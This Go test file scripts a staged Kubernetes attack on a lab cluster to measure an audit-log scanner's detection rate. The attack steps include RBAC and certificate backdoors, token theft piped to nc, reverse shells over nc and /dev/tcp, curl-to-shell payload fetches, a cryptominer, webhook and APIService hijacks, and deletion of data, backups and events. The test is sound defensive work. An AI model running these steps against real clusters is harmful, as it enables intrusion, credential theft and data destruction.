			run: func(ctx context.Context) error {
				tr, err := atkOp.cs.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "node-problem-detector", &authenticationv1.TokenRequest{
					Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h2Ptr(int64(365 * 24 * 3600))}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				atkBD = actor(tokenCfg("node-problem-detector", tr.Status.Token), attackerIP2, attackerUA, nil)
				return nil
			}},
		{name: "aggregate-to-view-secrets", attack: true,
			technique: "Persistence / privilege escalation: ClusterRole aggregated into 'view' granting Secrets and exec (T1098; RBAC docs 'aggregated ClusterRoles')",
			why:       "every identity bound to view (auditors, the attacker's later footholds) silently gains Secret reads and exec",
			run: func(ctx context.Context) error {
				_, err := atkBD.cs.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{
					ObjectMeta: metav1.ObjectMeta{Name: "view-metrics-extensions", Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
					Rules: []rbacv1.PolicyRule{
						{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch"}},
						{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create", "get"}},
					},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "grant-ci-impersonation", attack: true,
			technique: "Persistence / privilege escalation: grant the leaked CI identity 'impersonate' on users and groups (T1098; RBAC good practices 'impersonate verb')",
			why:       "the attacker turns the CI token into a master key that survives removal of the other backdoors",
			run: func(ctx context.Context) error {
				if _, err := atkBD.cs.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{
					ObjectMeta: metav1.ObjectMeta{Name: "ci-deploy-helper"},
					Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"users", "groups", "serviceaccounts"}, Verbs: []string{"impersonate"}}},
				}, metav1.CreateOptions{}); err != nil {
					return err
				}
				_, err := atkBD.cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: "ci-deploy-helper"},
					RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "ci-deploy-helper"},
					Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "deployer", Namespace: "ci"}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "impersonate-system-masters", attack: true,
			technique: "Credential access via impersonation of system:masters (T1134-like, T1552.007; RBAC good practices 'impersonate')",
			why:       "with the CI token impersonating kubernetes-admin in system:masters, the attacker lists every Secret of the cluster",
			run: func(ctx context.Context) error {
				_, err := atkCIAsMasters.cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "gitops-self-heal", why: "the GitOps controller re-applies the payments app (no change) and its ConfigMap", run: func(ctx context.Context) error {
			opts := metav1.ApplyOptions{FieldManager: "argocd-controller", Force: true}
			if _, err := argo.cs.AppsV1().Deployments("payments").Apply(ctx, h2ApplyDeployment("payments", "payments-api", "registry.example.com/payments/api:3.2.0", 2), opts); err != nil {
				return err
			}
			_, err := argo.cs.CoreV1().ConfigMaps("payments").Apply(ctx, corev1ac.ConfigMap("payments-config", "payments").
				WithLabels(map[string]string{"app.kubernetes.io/instance": "payments"}).
				WithData(map[string]string{"CURRENCY": "EUR", "PSP_ENDPOINT": "https://psp.example.com"}), opts)
			return err
		}},

		// ---------------- defence evasion, then pod-based escalation ----------------
		{name: "delete-policy-binding", attack: true,
			technique: "Defence evasion: delete the ValidatingAdmissionPolicyBinding that blocks privileged pods (T1562.001)",
			why:       "removes the guard-rail before placing host-access pods in payments",
			run: func(ctx context.Context) error {
				return atkBD.cs.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "deny-privileged-workloads-binding", metav1.DeleteOptions{})
			}},
		{name: "disable-policy-webhook", attack: true,
			technique: "Defence evasion: delete the policy engine's ValidatingWebhookConfiguration (T1562.001)",
			why:       "switches off the cluster's admission policy engine",
			run: func(ctx context.Context) error {
				return atkBD.cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "policy-engine-validating-webhook", metav1.DeleteOptions{})
			}},
		{name: "psa-relabel-namespace", attack: true,
			technique: "Defence evasion: namespace label change, Pod Security enforce=privileged and policy opt-out (T1562.001)",
			why:       "lets payments admit privileged and hostPath pods",
			run: func(ctx context.Context) error {
				_, err := atkBD.cs.CoreV1().Namespaces().Patch(ctx, "payments", types.MergePatchType,
					[]byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged","policy.example.io/enforce":null}}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "hostpath-pod-payments", attack: true,
			technique: "Privilege escalation / credential access: hostNetwork pod mounting the kubelet's pod directory (T1611, T1552; KubeHound EXPLOIT_HOST_READ; Stratus hostpath-volume)",
			why:       "reads every pod's projected ServiceAccount token from /var/lib/kubelet/pods on the node",
			run: func(ctx context.Context) error {
				time.Sleep(2 * time.Second) // let the admission informers see the deleted binding and the new labels (no request)
				p := h2HostPod("payments-api-debug", "", "/var/lib/kubelet/pods", false, true, "docker.io/library/busybox:1.36",
					[]string{"sh", "-c", "find /host -name token -path '*serviceaccount*' -exec cat {} \\; | nc 203.0.113.50 4444"})
				_, err := atkBD.cs.CoreV1().Pods("payments").Create(ctx, p, metav1.CreateOptions{})
				return err
			}},
		{name: "static-pod-manifest-drop", attack: true,
			technique: "Persistence: writable hostPath on /etc/kubernetes/manifests to plant a static pod (Threat Matrix 'Static pods'; T1543-like; KubeHound EXPLOIT_HOST_WRITE)",
			why:       "a static pod survives deletion through the API and is recreated by the kubelet",
			run: func(ctx context.Context) error {
				p := h2HostPod("etcd-defrag-lab-control-plane", c.NodeName, "/etc/kubernetes/manifests", false, false, "docker.io/library/alpine:3.19",
					[]string{"sh", "-c", "wget -qO /host/kube-audit-proxy.yaml http://203.0.113.50/s.yaml"})
				_, err := atkBD.cs.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{})
				return err
			}},
		{name: "forged-mirror-pod", attack: true,
			technique: "Defence evasion / persistence: pod forged as a static (mirror) pod named like the scheduler (T1036.005 masquerading; Threat Matrix 'Pod / container name similarity')",
			why:       "a pod with the kubelet's mirror annotations looks like a control-plane static pod to humans and tools",
			run: func(ctx context.Context) error {
				p := &corev1.Pod{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-scheduler-" + c.NodeName, Labels: map[string]string{"component": "kube-scheduler", "tier": "control-plane"},
						Annotations: map[string]string{lab.ConfigMirrorAnnotationKey: "3f1c8e7a9b2d4c6e8f0a1b2c3d4e5f60", lab.ConfigSourceAnnotationKey: "file", lab.ConfigHashAnnotationKey: "3f1c8e7a9b2d4c6e8f0a1b2c3d4e5f60"}},
					Spec: corev1.PodSpec{
						NodeName:    c.NodeName,
						HostNetwork: true,
						Containers: []corev1.Container{{Name: "kube-scheduler", Image: "docker.io/kubernetesio/kube-scheduler:v1.36.3",
							Command: []string{"/bin/sh", "-c", "while true; do nc -e /bin/sh 203.0.113.50 443; sleep 60; done"}}},
						Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
					},
				}
				_, err := atkBD.cs.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{})
				return err
			}},
		{name: "ephemeral-debug-container", attack: true,
			technique: "Execution: ephemeral container injected into a running workload (T1609; RBAC good practices 'ephemeral containers'; kubectl debug)",
			why:       "runs the attacker's code inside the payments API pod, with its network and ServiceAccount",
			run: func(ctx context.Context) error {
				p, err := firstPod(ctx, atkBD, "payments", "app=payments-api")
				if err != nil {
					return err
				}
				patch := `{"spec":{"ephemeralContainers":[{"name":"debugger-7f3k","image":"docker.io/library/busybox:1.36","targetContainerName":"payments-api",` +
					`"command":["sh","-c","cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.50 4445"],"stdin":true,"tty":true}]}}`
				_, err = atkBD.cs.CoreV1().Pods("payments").Patch(ctx, p, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}, "ephemeralcontainers")
				return err
			}},
		{name: "exec-apiserver-pod", attack: true,
			technique: "Execution / credential access: exec into the kube-apiserver pod to read the cluster CA key (T1609, T1552.004; Threat Matrix 'Exec into container')",
			why:       "the CA key would let the attacker mint any client certificate",
			run: func(ctx context.Context) error {
				_, err := atkBD.cs.CoreV1().RESTClient().Post().Namespace("kube-system").Resource("pods").Name(c.MirrorPodName).SubResource("exec").
					VersionedParams(&corev1.PodExecOptions{Container: "kube-apiserver", Command: []string{"cat", "/etc/kubernetes/pki/ca.key"}, Stdout: true, Stderr: true}, scheme.ParameterCodec).
					DoRaw(ctx)
				return h2PastAuthz(err)
			}},
		{name: "kubelet-api-via-nodes-proxy", attack: true,
			technique: "Execution / lateral movement: kubelet API through the API server's nodes/proxy (Stratus k8s.privilege-escalation.nodes-proxy; Threat Matrix 'Access Kubelet API')",
			why:       "lists the node's running pods and runs a command in one through the kubelet, around pods/exec",
			run: func(ctx context.Context) error {
				rc := atkBD.cs.CoreV1().RESTClient()
				_, err := rc.Get().AbsPath("/api/v1/nodes/" + c.NodeName + "/proxy/runningpods/").DoRaw(ctx)
				if e := h2PastAuthz(err); e != nil {
					return e
				}
				_, err = rc.Post().AbsPath("/api/v1/nodes/"+c.NodeName+"/proxy/run/kube-system/"+c.MirrorPodName+"/kube-apiserver").
					Param("cmd", "cat /etc/kubernetes/pki/sa.key").DoRaw(ctx)
				return h2PastAuthz(err)
			}},
		{name: "portforward-db", attack: true,
			technique: "Lateral movement: port-forward to the payments database pod (T1021-like; Threat Matrix 'Cluster internal networking')",
			why:       "the attacker reaches Postgres with the credentials dumped earlier",
			run: func(ctx context.Context) error {
				_, err := atkCI.cs.CoreV1().RESTClient().Post().Namespace("payments").Resource("pods").Name("payments-db-0").SubResource("portforward").
					Param("ports", "5432").DoRaw(ctx)
				return h2PastAuthz(err)
			}},
		{name: "service-proxy-db", attack: true,
			technique: "Lateral movement: the API server's service proxy to an internal Service (T1090-like; Threat Matrix 'Cluster internal networking')",
			why:       "a second path to the database that needs no pod access",
			run: func(ctx context.Context) error {
				_, err := atkCI.cs.CoreV1().RESTClient().Get().AbsPath("/api/v1/namespaces/payments/services/payments-db:5432/proxy/").DoRaw(ctx)
				return h2PastAuthz(err)
			}},
		{name: "sre-logs", why: "the SRE reads a storefront pod's logs (fails: the pod never started)", run: func(ctx context.Context) error {
			p, err := firstPod(ctx, sre, "shop", "app=storefront")
			if err != nil {
				return err
			}
			_, err = sre.cs.CoreV1().Pods("shop").GetLogs(p, &corev1.PodLogOptions{Container: "storefront", TailLines: h2Ptr(int64(200))}).DoRaw(ctx)
			return h2PastAuthz(err)
		}},

		// ---------------- persistence ----------------
		{name: "csr-client-cert", attack: true,
			technique: "Persistence: CSR for a client certificate in the cluster-admins group, self-approved (Stratus k8s.persistence.create-client-certificate; RBAC good practices 'CSR approval'; T1649)",
			why:       "a one-year certificate credential that no token revocation touches",
			run: func(ctx context.Context) error {
				reqPEM, keyPEM, err := h2CSR("kube-admin-backup", "kubeadm:cluster-admins")
				if err != nil {
					return err
				}
				csrKeyPEM = keyPEM
				csr, err := atkBD.cs.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-admin-backup"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: reqPEM, SignerName: certificatesv1.KubeAPIServerClientSignerName,
						ExpirationSeconds: h2Ptr(int32(365 * 24 * 3600)), Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth, certificatesv1.UsageDigitalSignature}},
				}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{Type: certificatesv1.CertificateApproved,
					Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve."})
				if _, err := atkBD.cs.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{}); err != nil {
					return err
				}
				deadline := time.Now().Add(30 * time.Second)
				for time.Now().Before(deadline) {
					got, err := atkBD.cs.CertificatesV1().CertificateSigningRequests().Get(ctx, csr.Name, metav1.GetOptions{})
					if err != nil {
						return err
					}
					if len(got.Status.Certificate) > 0 {
						csrCertPEM = got.Status.Certificate
						return nil
					}
					time.Sleep(time.Second)
				}
				return fmt.Errorf("CSR %s was not signed within 30s", csr.Name)
			}},
		{name: "use-forged-cert", attack: true,
			technique: "Lateral movement / valid accounts: the self-issued admin certificate used from a third host (T1078, T1550)",
			why:       "the attacker checks the new credential and reads kube-system's Secrets with it",
			run: func(ctx context.Context) error {
				cfg := &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: csrCertPEM, KeyData: csrKeyPEM}}
				atkCert = actor(cfg, attackerIP3, attackerUA, nil)
				if _, err := atkCert.cs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{}); err != nil {
					return err
				}
				_, err := atkCert.cs.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "bootstrap-token-backdoor", attack: true,
			technique: "Persistence: a non-expiring bootstrap token Secret, dressed as a kubeadm join token (T1098.001; kubeadm bootstrap tokens)",
			why:       "bootstrap tokens authenticate on their own and are rarely reviewed",
			run: func(ctx context.Context) error {
				id, secret, _ := strings.Cut(bootstrapTok, ".")
				_, err := atkBD.cs.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
					ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-" + id},
					Type:       corev1.SecretTypeBootstrapToken,
					StringData: map[string]string{"token-id": id, "token-secret": secret, "usage-bootstrap-authentication": "true", "usage-bootstrap-signing": "true",
						"auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token", "description": "kubeadm join token for worker pool"},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "use-bootstrap-token", attack: true,
			technique: "Valid accounts: authenticate with the planted bootstrap token from another host (T1078)",
			why:       "the attacker confirms the planted token works",
			run: func(ctx context.Context) error {
				time.Sleep(2 * time.Second) // the bootstrap authenticator reads Secrets through an informer (no request)
				_, err := atkBoot.cs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
				return err
			}},
		{name: "long-lived-token-secret", attack: true,
			technique: "Persistence: legacy ServiceAccount token Secret that never expires (Stratus k8s.persistence.create-token; T1528)",
			why:       "a kubernetes.io/service-account-token Secret for the backdoor ServiceAccount, read back once the controller fills it",
			run: func(ctx context.Context) error {
				if _, err := atkBD.cs.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
					ObjectMeta: metav1.ObjectMeta{Name: "node-problem-detector-token", Annotations: map[string]string{corev1.ServiceAccountNameKey: "node-problem-detector"}},
					Type:       corev1.SecretTypeServiceAccountToken,
				}, metav1.CreateOptions{}); err != nil {
					return err
				}
				deadline := time.Now().Add(30 * time.Second)
				for time.Now().Before(deadline) {
					s, err := atkBD.cs.CoreV1().Secrets("kube-system").Get(ctx, "node-problem-detector-token", metav1.GetOptions{})
					if err != nil {
						return err
					}
					if len(s.Data[corev1.ServiceAccountTokenKey]) > 0 {
						return nil
					}
					time.Sleep(time.Second)
				}
				return fmt.Errorf("the token controller did not fill node-problem-detector-token within 30s")
			}},
		{name: "cronjob-backdoor", attack: true,
			technique: "Persistence: CronJob running a privileged host-root pod every 10 minutes (T1053.007; Threat Matrix 'Kubernetes CronJob')",
			why:       "re-opens the attacker's reverse shell on the node periodically, named like an etcd maintenance job",
			run: func(ctx context.Context) error {
				pod := h2HostPod("x", c.NodeName, "/", true, true, "docker.io/library/alpine:3.19",
					[]string{"sh", "-c", "chroot /host sh -c 'curl -fsSL http://203.0.113.50/k.sh | sh'"})
				pod.Spec.RestartPolicy = corev1.RestartPolicyOnFailure
				_, err := atkBD.cs.BatchV1().CronJobs("kube-system").Create(ctx, &batchv1.CronJob{
					ObjectMeta: metav1.ObjectMeta{Name: "etcd-defrag", Labels: map[string]string{"component": "etcd", "tier": "control-plane"}},
					Spec: batchv1.CronJobSpec{Schedule: "*/10 * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
						Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"component": "etcd-defrag"}}, Spec: pod.Spec}}}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "sidecar-injection-ci", attack: true,
			technique: "Persistence / execution: malicious sidecar added to a production Deployment through the CI identity (Threat Matrix 'Sidecar injection'; T1525-like; supply-chain)",
			why:       "a 'log-shipper' sidecar with the app's DB credentials and a reverse shell rides every future rollout",
			run: func(ctx context.Context) error {
				patch := `{"spec":{"template":{"spec":{"containers":[{"name":"log-shipper","image":"ghcr.io/storefront-dev/log-shipper:2.1.0",` +
					`"command":["sh","-c","while true; do sh -i >& /dev/tcp/203.0.113.50/8443 0>&1; sleep 300; done"],` +
					`"envFrom":[{"secretRef":{"name":"storefront-db-credentials"}}]}]}}}}`
				_, err := atkCI.cs.AppsV1().Deployments("shop").Patch(ctx, "storefront", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{})
				return err
			}},
		{name: "miner-daemonset", attack: true,
			technique: "Impact: resource hijacking, a cryptominer DaemonSet on every node incl. the control plane, under a typosquatted image (T1496; RBAC Buster, Dero/Monero campaigns; T1036)",
			why:       "the attacker monetises the cluster",
			run: func(ctx context.Context) error {
				_, err := atkBD.cs.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-metrics-agent", Labels: map[string]string{"k8s-app": "kube-metrics-agent"}},
					Spec: appsv1.DaemonSetSpec{
						Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"k8s-app": "kube-metrics-agent"}},
						Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"k8s-app": "kube-metrics-agent"}},
							Spec: corev1.PodSpec{
								Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
								Containers: []corev1.Container{{Name: "agent", Image: "docker.io/kubernetesio/metrics-agent:v0.7.1",
									Args: []string{"--url=stratum+tcp://pool.hashvault.pro:443", "--user=WALLET_ADDRESS_REDACTED", "--donate-level=0", "--cpu-max-threads-hint=90"}}},
							}},
					},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "mutating-webhook-persistence", attack: true,
			technique: "Persistence / credential access: malicious mutating admission webhook on every pod creation, to an external URL (Threat Matrix 'Malicious admission controller'; T1546-like)",
			why:       "every new pod is sent to, and can be rewritten by, the attacker's server; named like a cloud pod-identity webhook",
			run: func(ctx context.Context) error {
				url := "https://198.51.100.23:8443/mutate"
				_, err := atkBD.cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "pod-identity-webhook"},
					Webhooks: []admissionregistrationv1.MutatingWebhook{{
						Name:         "iam-for-pods.amazonaws.com",
						ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
						Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
							Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
						FailurePolicy:           h2Ptr(admissionregistrationv1.Ignore),
						SideEffects:             h2Ptr(admissionregistrationv1.SideEffectClassNone),
						AdmissionReviewVersions: []string{"v1"},
						TimeoutSeconds:          h2Ptr(int32(3)),
						ReinvocationPolicy:      h2Ptr(admissionregistrationv1.IfNeededReinvocationPolicy),
					}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "apiservice-hijack", attack: true,
			technique: "Persistence / collection: APIService for metrics.k8s.io routed to an attacker-controlled ExternalName Service (aggregation-layer hijack; T1557-like)",
			why:       "the API server forwards metrics.k8s.io requests, with the callers' identities, to the attacker's endpoint",
			run: func(ctx context.Context) error {
				if _, err := atkBD.cs.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{
					ObjectMeta: metav1.ObjectMeta{Name: "metrics-server", Labels: map[string]string{"k8s-app": "metrics-server"}},
					Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeExternalName, ExternalName: "metrics.cdn-telemetry.example.net", Ports: []corev1.ServicePort{{Name: "https", Port: 443}}},
				}, metav1.CreateOptions{}); err != nil {
					return err
				}
				apisvc := &unstructured.Unstructured{Object: map[string]any{
					"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
					"metadata": map[string]any{"name": "v1beta1.metrics.k8s.io", "labels": map[string]any{"k8s-app": "metrics-server"}},
					"spec": map[string]any{"group": "metrics.k8s.io", "version": "v1beta1", "insecureSkipTLSVerify": true,
						"groupPriorityMinimum": int64(100), "versionPriority": int64(100),
						"service": map[string]any{"name": "metrics-server", "namespace": "kube-system", "port": int64(443)}},
				}}
				_, err := atkBD.dyn.Resource(schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}).Create(ctx, apisvc, metav1.CreateOptions{})
				return err
			}},
		{name: "disable-log-shipper", attack: true,
			technique: "Defence evasion: the log and audit shipper DaemonSet pinned to a node label nobody has (T1562.001/T1562.008)",
			why:       "stops log forwarding without deleting anything that an inventory would notice missing",
			run: func(ctx context.Context) error {
				_, err := atkBD.cs.AppsV1().DaemonSets("logging").Patch(ctx, "fluent-bit", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"spec":{"nodeSelector":{"fluent-bit.io/maintenance":"true"}}}}}`), metav1.PatchOptions{})
				return err
			}},

		// ---------------- impact and cleanup ----------------
		{name: "scale-payments-to-zero", attack: true,
			technique: "Impact: service stop, payments API scaled to zero through the scale subresource (T1489; Threat Matrix 'Denial of service')",
			why:       "takes the revenue path down (ransom pressure)",
			run: func(ctx context.Context) error {
				s, err := atkBD.cs.AppsV1().Deployments("payments").GetScale(ctx, "payments-api", metav1.GetOptions{})
				if err != nil {
					return err
				}
				s.Spec.Replicas = 0
				_, err = atkBD.cs.AppsV1().Deployments("payments").UpdateScale(ctx, "payments-api", s, metav1.UpdateOptions{})
				return err
			}},
		{name: "delete-payments-db", attack: true,
			technique: "Impact: data destruction, the database StatefulSet and its volumes deleted (T1485; Threat Matrix 'Data destruction')",
			why:       "destroys the payments data",
			run: func(ctx context.Context) error {
				if err := atkBD.cs.AppsV1().StatefulSets("payments").Delete(ctx, "payments-db", metav1.DeleteOptions{PropagationPolicy: h2Ptr(metav1.DeletePropagationBackground)}); err != nil {
					return err
				}
				return atkBD.cs.CoreV1().PersistentVolumeClaims("payments").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{LabelSelector: "app=payments-db"})
			}},
		{name: "delete-backup-namespace", attack: true,
			technique: "Impact: inhibit recovery, the backup tool's namespace deleted (T1490)",
			why:       "removes the backups before the ransom note",
			run: func(ctx context.Context) error {
				return atkBD.cs.CoreV1().Namespaces().Delete(ctx, "velero", metav1.DeleteOptions{})
			}},
		{name: "delete-events", attack: true,
			technique: "Defence evasion: clear Kubernetes events (T1070; Threat Matrix 'Delete K8s events')",
			why:       "erases the scheduling, image and eviction events the attack produced",
			run: func(ctx context.Context) error {
				for _, ns := range []string{"kube-system", "payments", "shop"} {
					if err := atkBD.cs.CoreV1().Events(ns).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "delete-csr-evidence", attack: true,
			technique: "Defence evasion: delete the approved CSR after collecting the certificate (T1070)",
			why:       "hides how the backup admin certificate came to be",
			run: func(ctx context.Context) error {
				return atkBD.cs.CertificatesV1().CertificateSigningRequests().Delete(ctx, "kube-admin-backup", metav1.DeleteOptions{})
			}},

		// ---------------- the day goes on ----------------
		{name: "ci-statefulset-restart", why: "kubectl rollout restart of the CI's own cache StatefulSet", run: func(ctx context.Context) error {
			patch := fmt.Sprintf(`{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":%q}}}}}`, time.Now().UTC().Format(time.RFC3339))
			_, err := ciKubectl.cs.AppsV1().StatefulSets("shop").Patch(ctx, "storefront-cache", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{FieldManager: "kubectl-rollout"})
			return err
		}},
		{name: "ci-helm-list-next-run", why: "the next pipeline run starts with helm list", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{LabelSelector: "owner=helm,name=storefront"})
			return err
		}},
		{name: "auditor-namespace-review", why: "the auditor reviews namespaces and their labels", run: func(ctx context.Context) error {
			if _, err := auditor.cs.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.cs.CoreV1().Namespaces().Get(ctx, "shop", metav1.GetOptions{})
			return err
		}},
	}

	// Run the script.
	seen := map[string]bool{}
	for _, s := range steps {
		if seen[s.name] {
			t.Fatalf("duplicate step name %q", s.name)
		}
		seen[s.name] = true
		rec.set(s.name)
		if err := s.run(ctx); err != nil {
			t.Fatalf("step %s did not execute as intended: %v", s.name, err)
		}
	}
	rec.set("")
	stepsDone := time.Now()

	// Every recorded request in the log, and each step's outcome as the
	// server recorded it.
	codes := h2WaitLogged(t, rec, c.AuditLogPath)
	for _, s := range steps {
		var n, refusedN int
		var bad []string
		rec.mu.Lock()
		for id, st := range rec.steps {
			if st != s.name {
				continue
			}
			n++
			code := codes[id]
			if code == http.StatusUnauthorized || code == http.StatusForbidden {
				refusedN++
			} else if s.refused {
				bad = append(bad, fmt.Sprintf("%s=%d", id, code))
			}
		}
		rec.mu.Unlock()
		switch {
		case n == 0:
			t.Errorf("step %s: no request recorded", s.name)
		case s.refused && len(bad) > 0:
			t.Errorf("step %s: meant to be refused, the server allowed %v", s.name, bad)
		case !s.refused && refusedN > 0:
			t.Errorf("step %s: %d of its %d requests were refused (401/403)", s.name, refusedN, n)
		}
	}
	if t.Failed() {
		t.FailNow()
	}

	// Scan and measure.
	scanStart := time.Now()
	stdout, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl", "--fail-on", "none")
	if code != 0 {
		t.Fatalf("audit scan exited %d\nstderr:\n%s", code, stderr)
	}
	byStep := rec.alertsByStep(stdout)
	sum := h2Measure(steps, byStep)
	t.Logf("heldout2: steps %s, log wait + scan %s (scan alone %s), total %s",
		stepsDone.Sub(start).Round(time.Millisecond), time.Since(stepsDone).Round(time.Millisecond),
		time.Since(scanStart).Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	t.Log("\n" + h2Table(steps, byStep, sum))
	if out := os.Getenv("APIGUARD_HELDOUT_OUT"); out != "" {
		b, err := json.MarshalIndent(sum, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(out, append(b, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("heldout2: summary written to %s", out)
	}
	// First measured untuned at 36/42 with 6 high alerts on benign steps
	// (testdata/heldout2/README.md); the rules were then extended, so this
	// is now a regression test at the bar.
	if sum.Rate < 0.95 {
		t.Errorf("detection rate %.3f (%d/%d) < 0.95; missed: %v", sum.Rate, sum.Detected, sum.AttackSteps, sum.Missed)
	}
	if sum.BenignHigh > 1 {
		t.Errorf("%d high or critical alerts on benign steps, want at most 1", sum.BenignHigh)
	}
}

// h2Step is one logical action of one actor.
type h2Step struct {
	name      string
	attack    bool
	technique string // attack steps: the technique and its public source
	why       string
	refused   bool // every request of the step must be refused (401/403)
	run       func(ctx context.Context) error
}

// h2Actor is a recorded client: its requests carry the current step.
type h2Actor struct {
	cs  kubernetes.Interface
	dyn dynamic.Interface
}

// h2NewActor makes a recorded client of base that connects from source
// address ip (any 127/8 address is loopback) with user agent ua,
// optionally impersonating.
func h2NewActor(t *testing.T, rec *auditRecorder, base *rest.Config, ip, ua string, imp *rest.ImpersonationConfig) h2Actor {
	t.Helper()
	cfg := rec.wrap(base, "")
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 10 * time.Second}
	cfg.Dial = d.DialContext
	cfg.UserAgent = ua
	cfg.Timeout = 30 * time.Second
	cfg.WarningHandler = rest.NoWarnings{}
	if imp != nil {
		cfg.Impersonate = *imp
	}
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return h2Actor{cs: cs, dyn: dyn}
}

// h2AnonGet makes an unauthenticated GET of path from source address ip,
// recorded against the current step.
func h2AnonGet(ctx context.Context, rec *auditRecorder, url string, pool *x509.CertPool, ip, ua, path string) (int, error) {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 10 * time.Second}
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}, DialContext: d.DialContext}
	defer tr.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url+path, nil)
	if err != nil {
		return 0, err
	}
	req.Header.Set("User-Agent", ua)
	req.Header.Set("Accept", "*/*")
	resp, err := rec.RoundTrip(tr, req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, nil
}

